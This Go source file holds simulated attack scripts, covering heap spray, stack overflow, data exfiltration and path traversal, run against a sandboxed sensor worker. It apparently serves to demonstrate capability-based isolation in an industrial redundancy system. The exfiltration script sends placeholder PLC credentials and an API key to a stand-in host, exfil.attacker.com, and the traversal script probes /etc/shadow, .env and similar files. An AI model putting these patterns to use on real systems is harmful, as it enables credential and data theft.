package attacks

// Interpreter scripts run on the interpreted side for security attacks. Each
// binds a global `result` holding STATUS|Kind|detail|elapsed. Capability
// builtins (alloc, resolve, connect, exists) are provided by the host and
// deny everything the sensor worker was never granted.

const bufferOverflowScript = `
def attack():
    print("[ATTACK] Attempting heap spray (256MB)...")
    if not alloc(256 * 1024 * 1024):
        print("[INFO] MemoryError on heap spray")

    print("[ATTACK] Attempting stack buffer overflow...")
    fixed = [0] * 64
    overflow = [65] * 128
    for i in range(len(overflow)):
        fixed[i] = overflow[i]

    return "VULNERABLE|None|Overflow succeeded!|" + elapsed()

result = attack()
`

const dataExfilScript = `
def attack():
    sensitive = {
        "plc_creds": {"user": "engineer", "pass": "S!emens#2026"},
        "modbus_gw": "192.168.40.1:502",
        "api_key": "sk-historian-PROD-8x7k",
    }
    print("[ATTACK] Collected %d sensitive objects" % len(sensitive))

    print("[ATTACK] Attempting DNS: exfil.attacker.com")
    ip = resolve("exfil.attacker.com")
    if ip:
        return "VULNERABLE|DNS resolved|" + ip + "|" + elapsed()
    print("[INFO] DNS blocked")

    print("[ATTACK] Attempting socket to 203.0.113.66:443")
    connect("203.0.113.66:443", str(sensitive))
    return "VULNERABLE|socket.connect|Data exfiltrated!|" + elapsed()

result = attack()
`

const pathTraversalScript = `
def attack():
    targets = [
        "/etc/passwd", "/etc/shadow", "../../../etc/passwd",
        "/proc/self/environ", "/app/.env", "../../.git/config",
    ]
    print("[ATTACK] Probing %d paths..." % len(targets))

    readable = []
    blocked = []
    for path in targets:
        print("[PROBE] " + path)
        if exists(path):
            readable.append(path)
        else:
            blocked.append(path)

    if readable:
        return "VULNERABLE|FileRead|Read %d files!|%s" % (len(readable), elapsed())
    return "BLOCKED|OSError|All %d paths blocked by sandbox|%s" % (len(blocked), elapsed())

result = attack()
`

const unknownScript = `
result = "ERROR|InvalidAttack|Unknown attack type"
`

// Script returns the interpreter source for the attack. Attacks without a
// script of their own get one that reports an invalid attack.
func Script(id string) string {
	switch id {
	case BufferOverflow:
		return bufferOverflowScript
	case DataExfil:
		return dataExfilScript
	case PathTraversal:
		return pathTraversalScript
	}
	return unknownScript
}

// WITExcerpt is the capability contract the sandboxed sensor worker is
// instantiated against. Anything under attack-surface is never provided by the
// host, so calling it traps.
const WITExcerpt = `package reliability-triad:attacks@0.1.0;

interface common-types {
    record telemetry-packet { timestamp: u64, value: f64, status: u8 }
}

// not provided by the host: any call traps
interface attack-surface {
    malloc-large: func(size: u64) -> result<u64, string>;
    open-socket: func(addr: string) -> result<u32, string>;
    read-file: func(path: string) -> result<list<u8>, string>;
}

// granted: --dir=/dev/i2c-1::readonly --env=SENSOR_TYPE=bme280
interface sensor-capabilities {
    read-hardware-register: func(reg-id: u32) -> f64;
    log-debug: func(msg: string);
}

// instantiated 3x for 2oo3 voting
world sensor-node {
    import sensor-capabilities;
    import attack-surface;
    export process-tick: func() -> common-types.telemetry-packet;
}

world system-supervisor {
    import tmr-logic;
}

interface tmr-logic {
    consensus-2oo3: func(a: ..., b: ..., c: ...) -> result<packet, string>;
    trigger-hot-swap: func(node-index: u8);
}
`
